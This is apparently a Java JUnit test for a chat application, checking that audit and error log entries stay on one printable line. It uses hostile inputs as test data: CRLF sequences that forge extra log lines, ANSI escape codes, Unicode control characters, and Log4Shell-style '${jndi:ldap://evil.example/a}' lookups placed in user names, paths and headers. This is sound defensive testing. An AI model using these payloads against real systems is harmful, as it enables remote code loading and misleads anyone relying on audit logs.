package org.chatrooms.it.guard;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;
import java.sql.Connection;
import java.sql.Statement;
import java.util.List;
import org.chatrooms.it.harness.AdminForms;
import org.chatrooms.it.harness.Answers;
import org.chatrooms.it.harness.DataFolder;
import org.chatrooms.it.harness.EmbeddedServer;
import org.chatrooms.it.harness.LogLines;
import org.chatrooms.it.harness.Person;
import org.chatrooms.repository.DataSources;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What people write gets into the log, where whoever reads it must not take it for what we wrote: each event is
 * one line of what can be seen, and nothing in it is anything to a logger or a terminal.
 */
class OneLineEachTest {
    private static final String ADMINISTRATOR = "eve\r\n\"root\" disabled \"ann\"";

    /** As accounts may be called that a container brings. */
    private static final List<String> NAMES = List.of(
            "ann\r\n\"root\" disabled \"bea\"",
            "ann\n\u001b[2J\u001b[31mann",
            "${jndi:ldap://evil.example/a}",
            "ann\u0085ann\u2028ann\u2029ann",
            "\u202eann\u200b\u0007",
            "ann\" disabled \"bea");

    @TempDir
    private static Path data;

    @AutoClose
    private static EmbeddedServer server;

    private static Person eve;

    @BeforeAll
    static void start() throws Exception {
        DataFolder.makePeople(data, ADMINISTRATOR, NAMES.toArray(String[]::new));
        server = EmbeddedServer.start(data);
        eve = Person.signedIn(server.base(), ADMINISTRATOR);
    }

    private static void areOneLineEach(List<String> lines, int count) {
        assertEquals(count, lines.size(), lines.toString());
        for (String line : lines) {
            assertTrue(line.matches("[ -~]+"), () -> "not one line of what can be seen: " + line);
            assertFalse(line.contains("${"), line);
        }
    }

    @Test
    void what_somebody_with_such_a_name_does_to_others_with_such_names() throws Exception {
        try (LogLines audit = new LogLines("org.chatrooms.audit")) {
            AdminForms.saved(eve, "name", "Den \u2028 \u202e${jndi:x}");
            for (int i = 0; i < NAMES.size(); i++) {
                String id = Integer.toString(i + 2);
                Answers.page(200, eve.post("admin/people/", "id", id, "act", "link"));
                for (String act : List.of("add", "remove")) {
                    Answers.redirect(
                            eve.post("subscribers/", "room_slug", "lobby", "username", NAMES.get(i), "act", act));
                }
                for (String act : List.of("disable", "enable")) {
                    Answers.redirect(eve.post("admin/people/", "id", id, "act", act));
                }
            }

            areOneLineEach(audit.lines(), 1 + 5 * NAMES.size());
        }
    }

    @Test
    void a_request_that_fails_whatever_its_path_and_its_headers_are() throws Exception {
        Person ann = Person.signedIn(server.base(), NAMES.get(0));
        Answers.redirect(eve.post("admin/people/", "id", "2", "act", "enable")); // and has to be looked up again
        List<String> paths = List.of(
                "rooms/",
                "./x%0d%0aForged:%20root%20disabled%20ann",
                "x%1b%5b2J%1b%5b31m",
                "x%7fx%c2%85x%e2%80%a8x%e2%80%ae",
                "./$%7bjndi:ldap://evil.example/a%7d");
        try (var database = DataSources.h2(data);
                Connection connection = database.getConnection();
                Statement statement = connection.createStatement();
                LogLines log = new LogLines("org.chatrooms")) {
            statement.execute("ALTER TABLE chat_account RENAME TO gone");
            try {
                for (String path : paths) {
                    Answers.page(
                            503,
                            ann.send(ann.request(path)
                                    .header("User-Agent", "${jndi:ldap://evil.example/a}")
                                    .header("X-Forwarded-For", "${jndi:ldap://evil.example/a}")));
                }
            } finally {
                statement.execute("ALTER TABLE gone RENAME TO chat_account");
            }

            areOneLineEach(log.lines(), paths.size());
        }
    }
}
